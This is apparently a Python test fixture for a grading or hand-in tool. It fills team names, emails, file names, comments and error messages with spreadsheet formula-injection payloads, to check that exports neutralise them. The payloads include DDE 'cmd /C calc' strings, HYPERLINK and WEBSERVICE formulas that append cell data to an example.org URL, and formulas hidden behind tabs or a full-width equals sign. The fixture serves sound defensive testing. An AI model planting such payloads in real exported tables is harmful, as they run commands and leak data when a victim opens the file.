"""Puts formulas of spreadsheets where a table of names and answers could have them: members, texts, errors, file names and comments.

Must not: be run by whoever opens a table of the class.
Stopped by: names of groups begin with a letter or digit; tables have an apostrophe before what a spreadsheet would take for a formula.
"""

# %% team
TEAM = [
    {"name": "=HYPERLINK(\"https://example.org/?\"&A1,\"marks\")", "student_id": "+1234567", "email": "@SUM(1+1)*cmd|' /C calc'!A0"},
    {"name": "\t=1+1", "student_id": "-2+3", "email": "\r=IMPORTXML(\"https://example.org\",\"//a\")"},
]

# %% ex1_code
# =cmd|' /C calc'!A0
AUTHOR = "=WEBSERVICE(\"https://example.org/\"&A2)"
open("=1+1.csv", "w").write("=1+1,+1,-1,@SUM(A1)\n")
print("=1+1\t+1\t-1\n@SUM(A1);\uff1d1+1")


def mean_square(x):
    raise type("=1+1", (Exception,), {})("=DDE(\"cmd\";\"/C calc\";\"!A0\")")


# %% hand in
(folder / "=HYPERLINK(A1).csv").write_text("=1+1\n", encoding="utf-8")
